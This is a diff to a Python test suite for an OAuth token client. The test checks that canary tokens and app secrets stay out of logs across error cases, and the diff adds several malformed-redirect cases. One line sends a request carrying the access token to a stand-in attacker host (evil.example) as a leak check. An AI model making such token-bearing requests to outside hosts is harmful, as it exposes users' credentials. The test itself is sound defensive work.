@@ -128,10 +128,21 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
             lambda: mab.GraphSession(canary, app_secret="0" * 32, **opts).get("me"),
             lambda: mab.GraphSession(canary, **opts).get(f"https://evil.example/x?access_token={canary}"),
             lambda: mab.exchange_code(
-                "used-or-bad", app_id=box.app_id, app_secret=secret, redirect_uri="http://127.0.0.1:1/cb", **opts
+                "used-or-bad", app_id=box.app_id, app_secret=secret, redirect_uri="http://localhost:1/cb", **opts
             ),
             lambda: mab.extend_token(canary, app_id=box.app_id, app_secret=secret[::-1], **opts),
-            lambda: mab.parse_redirect(f"http://127.0.0.1/cb?code={canary}&state=x", "y"),
+            lambda: mab.parse_redirect(f"http://localhost/cb?code={canary}&state=x", "y"),
+            # wrong pastes: a token, another app's redirect, the dialog's own address (each says what to paste)
+            lambda: mab.parse_redirect(canary, "y", redirect_uri="http://localhost:8765/callback"),
+            lambda: mab.parse_redirect(
+                f"https://other-app.example/cb?code={canary}&state=y",
+                "y",
+                redirect_uri="http://localhost:8765/callback",
+            ),
+            lambda: mab.parse_redirect(f"{box.dialog_url}/v27.0/dialog/oauth?client_id={secret}&state={canary}", "y"),
+            lambda: mab.parse_redirect(
+                f"http://localhost:8765/callback?error={canary}&error_description={secret}", "y"
+            ),
             lambda: TokenStore().load("audit"),
             lambda: mab.AccessToken(canary + "\n" + secret),
         ):
